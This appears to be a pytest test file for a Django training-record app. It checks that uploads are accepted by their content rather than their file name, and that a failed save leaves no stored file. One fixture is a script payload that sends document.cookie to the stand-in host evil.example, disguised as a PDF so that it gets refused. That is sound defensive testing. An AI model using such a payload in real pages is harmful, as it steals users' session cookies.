"""Uploads are checked by their content, not their name, and a write that fails leaves no file behind."""

import datetime
import io
import zipfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from lms import uploads
from lms.audit import services as audit
from lms.training.models import TrainingRecord
from skillpath import services

from .test_bad_input import external_form

pytestmark = [pytest.mark.django_db, pytest.mark.today("2026-11-24")]

PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 40
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF" + b"\0" * 40
HTML = b"<!DOCTYPE html><html><script>document.location='https://evil.example/'+document.cookie</script></html>"


def docx():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    return buffer.getvalue()


@pytest.mark.parametrize(("name", "content", "fits"), [
    ("a.pdf", b"%PDF-1.7 ...", True), ("a.PNG", PNG, True), ("a.jpeg", JPEG, True), ("a.docx", docx(), True),
    ("a.doc", uploads.OLE_SIGNATURE + b"\0" * 100, True), ("a.txt", "レポート本文".encode("cp932"), True),
    ("x.pdf", HTML, False), ("x.png", JPEG, False), ("x.docx", b"PK\x03\x04not a document", False), ("x.txt", b"MZ\0\0\x90", False),
    ("x.doc", b"%PDF-1.4", False),
])
def test_the_content_must_be_what_the_name_says(name, content, fits):
    suffix = Path(name.lower()).suffix
    assert uploads.content_matches(io.BytesIO(content), suffix) is fits


def test_html_named_as_a_pdf_is_refused_with_the_form_kept(login, world):
    response = login(world.supporter).post(reverse("external_new"), external_form(evidence=SimpleUploadedFile("x.pdf", HTML)))
    page = response.content.decode()
    assert response.status_code == 200 and "PDF" in page and "名前" in page and 'value="地域福祉研修"' in page
    assert not TrainingRecord.objects.exists()


def test_a_failed_write_removes_the_file_it_stored(world, monkeypatch, settings):
    folder = Path(settings.MEDIA_ROOT)
    before = set(folder.rglob("*")) if folder.exists() else set()

    def broken(*args, **kwargs):
        raise RuntimeError("the database went away")

    monkeypatch.setattr(audit, "record", broken)
    with pytest.raises(RuntimeError):
        services.external_record_submit(
            person=world.supporter, title="x", kind=TrainingRecord.Kind.PREFECTURAL, provider="県", started_on=datetime.date(2026, 10, 1),
            completed_on=datetime.date(2026, 10, 1), hours=3, evidence=SimpleUploadedFile("evidence.pdf", b"%PDF-1.4 kept?"),
        )
    after = {path for path in folder.rglob("*") if path.is_file()} if folder.exists() else set()
    assert {path for path in after - before if path.is_file()} == set()
    assert not TrainingRecord.objects.exists()
